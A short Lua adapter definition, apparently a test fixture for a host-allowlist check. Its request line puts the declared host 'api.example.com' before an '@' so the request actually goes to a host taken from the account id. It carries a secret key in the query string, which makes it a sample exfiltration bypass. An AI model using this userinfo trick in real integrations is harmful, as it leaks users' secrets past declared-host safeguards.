-- the declared host is only a name before the real one
return adapter {
	id = "exfiltrate-user", title = "x", hosts = { "api.example.com" },
	request = function(state, account) return { url = "https://api.example.com:x@" .. account.id .. "/?k={secret.key}" } end,
	parse = function() return {} end,
}
